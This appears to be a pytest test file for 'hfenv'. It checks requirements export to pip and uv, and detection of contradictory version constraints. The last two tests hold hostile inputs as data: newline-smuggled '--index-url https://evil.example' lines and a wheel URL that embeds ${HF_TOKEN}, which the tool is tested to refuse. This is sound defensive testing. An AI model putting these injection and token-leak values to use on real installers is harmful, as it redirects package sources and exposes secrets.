"""What environments need, exported for pip and uv, and told apart where it contradicts itself."""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from hfenv.errors import UnreadableError
from hfenv.hub.locking.lockfile import LockFile, write_lock
from hfenv.hub.locking.needs import needs_of
from tests.hub.test_lock_file import entry
from tests.support import run_cli


def needing(*packages, ref="org/a", python=""):
    return entry(ref, packages=packages, python=python)


def contradictions(*entries):
    return [str(one) for one in needs_of(entries).contradictions]


def requirements(*entries):
    return [line.requirement for line in needs_of(entries).lines]


def wheel(folder, name, version, requires=()):
    """A wheel of a package without content."""
    info = f"{name}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {one}\n" for one in requires)
    with zipfile.ZipFile(folder / f"{name}-{version}-py3-none-any.whl", "w") as archive:
        archive.writestr(f"{name}.py", "")
        archive.writestr(f"{info}/METADATA", metadata)
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")


@pytest.fixture
def exported(tmp_path):
    """A requirements file of two environments, and a folder with wheels that meet it."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    for version in ("1.0", "1.5", "2.0"):
        wheel(wheels, "alpha", version)
    wheel(wheels, "beta", "3.0", requires=["alpha<2"])
    wheel(wheels, "gamma_x", "0.1")
    entries = (
        needing("alpha>=1.2", "Gamma.X", 'beta; python_version >= "3"', python=">=3.10"),
        needing("Alpha<2", "gamma-x>=0.1", 'nothing>=9; python_version < "3"', ref="org/b@^1", python="<4"),
    )
    write_lock(LockFile(tmp_path / "hfenv.lock", entries))
    result = run_cli("lock", "--requirements", "requirements.txt", cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    return tmp_path / "requirements.txt", wheels


def test_the_file_says_once_what_is_needed_and_for_whom(exported):
    file, _ = exported
    assert file.read_text(encoding="utf-8") == (
        "# Made from hfenv.lock by hfenv lock --requirements; don't edit.\n"
        "# Needs Python <4,>=3.10\n"
        "alpha<2,>=1.2\n"
        "    # for org/a, org/b@^1\n"
        'beta; python_version >= "3"\n'
        "    # for org/a\n"
        "gamma-x>=0.1\n"
        "    # for org/a, org/b@^1\n"
        'nothing>=9; python_version < "3"\n'
        "    # for org/b@^1\n"
    )
    printed = run_cli("lock", "--requirements", cwd=file.parent)
    assert printed.stdout == file.read_text(encoding="utf-8")
    found = run_cli("lock", "--requirements", "--format", "json", cwd=file.parent).json
    assert found["requirements"][0] == {"requirement": "alpha<2,>=1.2", "environments": ["org/a", "org/b@^1"]}


@pytest.mark.slow
def test_pip_takes_it(exported):
    file, wheels = exported
    pip = [sys.executable, "-m", "pip", "install", "--dry-run", "--no-index", "--find-links", str(wheels)]
    done = subprocess.run([*pip, "-r", str(file)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert "Would install alpha-1.5 beta-3.0 gamma-x-0.1" in done.stdout.replace("gamma_x", "gamma-x")


@pytest.mark.slow
def test_uv_takes_it(exported):
    file, wheels = exported
    uv = [
        sys.executable,
        "-m",
        "uv",
        "pip",
        "install",
        "--dry-run",
        "--offline",
        "--no-index",
        "--find-links",
        str(wheels),
    ]
    done = subprocess.run(
        [*uv, "--python", sys.executable, "-r", str(file)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert all(name in done.stderr for name in ("alpha==1.5", "beta==3.0", "gamma-x==0.1"))


@pytest.mark.parametrize(
    ("first", "second", "expected"),
    [
        (("numpy>=2",), ("numpy<2",), "no version of numpy fits: org/a needs numpy>=2 and org/b needs numpy<2"),
        (("numpy==1.26.*",), ("numpy~=2.0",), "org/a needs numpy==1.26.* and org/b needs numpy~=2.0"),
        (("NumPy==1.0",), ("num.py", "numpy!=1.0"), "org/a needs NumPy==1.0 and org/b needs numpy!=1.0"),
        (("a===1.local",), ("a>=2",), "no version of a fits"),
        (("a>=2",), ('a<2; python_version >= "3"',), "no version of a fits"),
        (("a>=2",), ('a<2; platform_system == "Nowhere"',), "no version of a fits"),
        (("a>=2,<1",), ("b",), "org/a needs a>=2,<1, which no version of a is"),
        (("a @ https://x.example/1.whl",), ("a @ https://x.example/2.whl",), "no version of a fits"),
        (("a>1,<2", "a!=1.*"), ("b",), "org/a needs a>1,<2 and org/a needs a!=1.*"),
    ],
)
def test_needs_that_no_version_meets(first, second, expected):
    (said,) = contradictions(needing(*first), needing(*second, ref="org/b"))
    assert expected in said


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("a>=1", "a<2"), ("a>1.0", "a<1.0.1"), ("a~=1.4.2", "a>=1.4.9"), ("a>=2.0a1", "a<2.1"), ("a[x]", "a[y]>=1"),
        ('a>=2; python_version >= "3.11"', 'a<2; python_version < "3.11"'), ("a @ https://x.example/1.whl", "a>=1"),
    ],
)  # fmt: skip
def test_needs_that_fit(first, second):
    assert contradictions(needing(first), needing(second, ref="org/b")) == []


def test_three_may_fail_where_each_two_fit():
    entries = [needing("a!=1.0", ref="org/a"), needing("a>=1.0", ref="org/b"), needing("a<=1.0", ref="org/c")]
    (said,) = contradictions(*entries)
    assert said.count(" needs ") == 3


def test_pythons_contradict_too(tmp_path):
    write_lock(
        LockFile(tmp_path / "hfenv.lock", (needing(python=">=3.12"), needing(ref="org/b", python=">=3.10,<3.12")))
    )
    result = run_cli("lock", "--requirements", "out.txt", "--format", "github", cwd=tmp_path)
    assert result.exit_code == 1
    assert "title=lock-needs,line=5::no version of Python fits: org/a needs Python >=3.12 and org/b" in result.stdout
    assert not (tmp_path / "out.txt").exists()
    assert contradictions(needing(python=">=3.10"), needing(ref="org/b", python="<3.11")) == []


def test_extras_and_markers_are_kept():
    assert requirements(needing("a[x]>=1"), needing("A[y]", ref="org/b")) == ["a[x,y]>=1"]
    split = ('a>=2; python_version >= "3.11"', 'a<2; python_version < "3.11"')
    assert requirements(needing(*split)) == ['a<2; python_version < "3.11"', 'a>=2; python_version >= "3.11"']


@pytest.mark.parametrize(
    "text",
    ["no requirement!", 'a; platform_version == "x\n--index-url https://evil.example\n"', "a @ https://evil.example/${HF_TOKEN}.whl"],
)  # fmt: skip
def test_what_would_become_something_else_is_refused(text):
    with pytest.raises(UnreadableError) as caught:
        needs_of([needing(text)])
    assert caught.value.message.isprintable()


def test_a_reference_never_ends_its_comment():
    odd = needing("a", ref="org/a@x\n--index-url=https://evil.example")
    assert len(needs_of([odd]).to_text(str(Path("hfenv.lock"))).splitlines()) == 3
